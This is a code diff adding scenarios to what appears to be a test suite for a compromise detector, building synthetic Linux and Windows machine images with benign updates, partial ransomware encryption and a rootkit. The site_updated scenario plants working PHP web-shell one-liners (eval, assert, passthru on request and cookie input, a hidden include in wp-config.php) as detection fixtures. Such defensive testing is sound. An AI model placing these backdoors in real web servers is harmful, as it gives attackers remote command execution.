@@ -312,6 +312,123 @@ def windows_benign_week(machine):
     machine.key("after", cv + r"\WindowsUpdate\Auto Update\Results\Install", ("LastSuccessTime", "2026-11-20"))
 
 
+def site_updated(machine):
+    """A site and its plug-ins in new versions, with what it makes in its caches; few scripts of it run commands by trade."""
+    linux(machine)
+    page = "<?php\n// part %d of a site\nfunction part%d($a) { return htmlspecialchars($_GET['a'] ?? $a); }\n"
+    tool = ("<?php\nclass C%d { function v() { return %d; }\n"
+            "function g($c) { exec('git ' . escapeshellarg($c), $o); return base64_decode($o[0]); } }\n")
+    site = "var/www/html/"
+    for at in range(4000):
+        machine.old(f"{site}wp-includes/d{at % 40}/f{at}.php", (page if at % 50 else tool) % (at, at))
+    for at in range(600):
+        machine.old(f"{site}wp-content/plugins/p{at % 20}/f{at}.php", (page if at % 50 else tool) % (at, at))
+    machine.old(site + "wp-config.php", "<?php define('DB_NAME', 'x');")
+    machine.copy()
+    linux_week(machine)
+    for at in range(0, 4000, 2):
+        machine.new(f"{site}wp-includes/d{at % 40}/f{at}.php", (page if at % 50 else tool) % (at, at + 7))
+    for at in range(300):
+        machine.new(f"{site}wp-content/plugins/more/f{at}.php", (page if at % 50 else tool) % (at, at))
+        machine.new(f"{site}wp-content/cache/super/h{at}.php", f"<?php die(); ?>page {at}")
+        machine.new(f"{site}var/cache/prod/twig/{at:02x}/{at:064x}.php", page % (at, at))
+        machine.new(f"{site}wp-content/uploads/2026/{at}.jpg", document(at * 4 + 2)[0])
+    machine.plant(site + "wp-includes/d3/class-wp-cache.php", "<?php $f = base64_decode('YXNzZXJ0'); $f($_POST['x']);")
+    machine.plant(site + "wp-content/plugins/p3/f43.php", page % (43, 43) + "@eval(gzinflate(base64_decode($_REQUEST['q'])));")
+    machine.plant(site + "wp-content/uploads/2026/x.phtml", "<?php passthru($_GET['c']);")
+    machine.plant(site + "wp-config.php", "<?php define('DB_NAME', 'x'); include '/tmp/.x.ico';")
+    machine.plant("tmp/.x.ico", "<?php eval($_COOKIE['a']);")
+
+
+def linux_benign_week(machine):
+    """Nothing planted: what a developer, a browser, containers and servers leave in a week."""
+    linux(machine)
+    machine.old("home/ann/.bash_history", "ls\n")
+    machine.old("var/lib/mysql/ibdata1", chance(5000))
+    machine.copy()
+    linux_week(machine)
+    home = "home/ann/"
+    for at in range(40):
+        machine.new(f"opt/venv/lib/python3.11/site-packages/p{at}/__pycache__/m.cpython-311.pyc", b"\xa7\r\r\n" + chance(100))
+        machine.new(f"{home}project/node_modules/n{at}/index.js", f"x={at}")
+        machine.new(f"{home}project/node_modules/.bin/n{at}", "#!/usr/bin/env node\n", 0o755)
+        machine.new(f"{home}.mozilla/firefox/a.default/storage/default/{at}/x.sqlite", chance(600))
+        machine.new(f"{home}project/.git/objects/{at:02x}/{at:038x}", chance(80))
+        machine.new(f"var/lib/docker/overlay2/{at:064x}/diff/usr/bin/d{at}", elf(f"d{at}"), 0o755)
+        machine.new(f"var/cache/apt/archives/p{at}.deb", b"!<arch>\n" + chance(800))
+        machine.new(f"var/log/journal/abc/system@{at}.journal", b"LPKSHHRH" + chance(800))
+    machine.new(home + "project/run.sh", "#!/bin/sh\necho\n", 0o755)
+    machine.new(home + "project/target/app", elf("mine"), 0o755)
+    machine.new(home + ".bash_history", "ls\npwd\n")
+    machine.new(home + ".ssh/known_hosts", "host ssh-ed25519 AAA")
+    machine.new("etc/letsencrypt/archive/x/cert2.pem", "-----BEGIN CERTIFICATE-----\n2")
+    machine.new("var/lib/mysql/ibdata1", chance(5000))
+
+
+def windows_drivers_and_store(machine):
+    """Nothing planted: drivers, packages of the store, native images and a program without a list in new versions."""
+    windows(machine)
+    cs = r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services"
+    store = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Appx\AppxAllUserStore\Applications"
+    uninstall = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\Browser"
+
+    def version(side, put, now):
+        for at in range(30):
+            driver = f"Windows/System32/DriverStore/FileRepository/d{at}.inf_amd64_{at + 100 * now:016x}/d{at}"
+            for name in (driver + ".sys", f"Windows/System32/drivers/d{at}.sys"):
+                put(name, pe(f"driver {at} {now}"))
+            put(driver + ".inf", f"[Version]\n{now}")
+            put(driver + ".cat", chance(300))
+            put(f"Windows/assembly/NativeImages_v4.0.30319_64/A{at}/{at + 1000 * now:032x}/A{at}.ni.dll", pe(f"image {at} {now}"))
+            put(f"Program Files/WindowsApps/V.App{at % 5}_1.{now}.0.0_x64__8wek/f{at}.dll", pe(f"store {at} {now}"))
+            put(f"Users/ann/AppData/Local/Meet/current/f{at}.dll", pe(f"meet {at} {now}"))
+        put(f"Program Files/Browser/Application/10{now}.0.1/service.exe", pe(f"service {now}"))
+        machine.key(side, cs + r"\BrowserService", ("ImagePath", rf"C:\Program Files\Browser\Application\10{now}.0.1\service.exe"))
+        machine.key(side, uninstall, ("DisplayVersion", f"10{now}.0.1"), ("DisplayName", "Browser"))
+        for at in range(5):
+            machine.key(side, store + rf"\V.App{at}_1.{now}.0.0_x64__8wek", ("Path", "x"))
+
+    version("before", machine.old, 1)
+    before = list(machine.registry["before"])
+    machine.copy()
+    machine.registry["after"] = before[:-7]
+    windows_week(machine)
+    for at in range(30):
+        shutil.rmtree(machine.after / f"Windows/System32/DriverStore/FileRepository/d{at}.inf_amd64_{at + 100:016x}")
+    version("after", machine.new, 2)
+
+
+def ransomware_in_parts(machine):
+    """A quarter of each block is encrypted, on a server, under the old times."""
+    linux(machine)
+    for at in range(400):
+        body, extension = document(at)
+        machine.old(f"srv/share/team{at % 7}/d{at % 13}/file{at}.{extension}", body * 4)
+    machine.copy()
+    linux_week(machine)
+    for at in range(400):
+        body, extension = document(at)
+        parts = bytearray(body * 4)
+        for block in range(0, len(parts), 4096):
+            parts[block:block + 1024] = chance(len(parts[block:block + 1024]))
+        machine.new(f"srv/share/team{at % 7}/d{at % 13}/file{at}.{extension}", bytes(parts), 0o644, OLD)
+    machine.planted.append("MASS")
+    machine.plant("usr/local/bin/.e", elf("encryptor"), 0o755)
+
+
+def windows_rootkit(machine):
+    windows(machine)
+    for at in range(20):
+        machine.old(f"Windows/System32/drivers/drv{at}.sys", pe(f"drv{at}"))
+    machine.copy()
+    windows_week(machine)
+    for at in range(5):
+        machine.plant(f"Windows/System32/drivers/drv{at}.sys", pe(f"drv{at}").replace(b"drv", b"rkt"), 0o644, OLD)
+        machine.plant(f"Windows/System32/part{at}.dll", pe(f"part {at}").replace(b"part", b"p4rt"), 0o644, OLD)
+    machine.plant("Windows/System32/drivers/zz.sys", pe("zz"), 0o644, OLD)
+    machine.plant_value(r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\zz", "ImagePath", r"system32\drivers\zz.sys")
+
+
 def macos(machine):
     for at in range(200):
         machine.old(f"usr/bin/tool{at}", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(60) + str(at).encode(), 0o755)
@@ -486,6 +603,10 @@ SCENARIOS = {
     "Windows persistence": (windows_persistence, True), "ransomware, renamed": (ransomware_renamed, True),
     "ransomware in place, times kept": (ransomware_times_kept, True), "ransomware in place, times new": (ransomware_times_new, True),
     "rootkit: size and time kept": (rootkit, False), "web shell in a site": (web_shell, False)}
+SCENARIOS |= {
+    "site updated, shells besides": (site_updated, False), "benign Linux week": (linux_benign_week, False),
+    "drivers and store updated": (windows_drivers_and_store, True), "ransomware in parts, times kept": (ransomware_in_parts, False),
+    "rootkit on Windows: size and time kept": (windows_rootkit, True)}
 SCENARIOS |= {"benign Windows week": (windows_benign_week, True), "macOS persistence": (macos_persistence, False)}
 if "HIVES" in os.environ:
     SCENARIOS["real hives only"] = (hives_only, False)
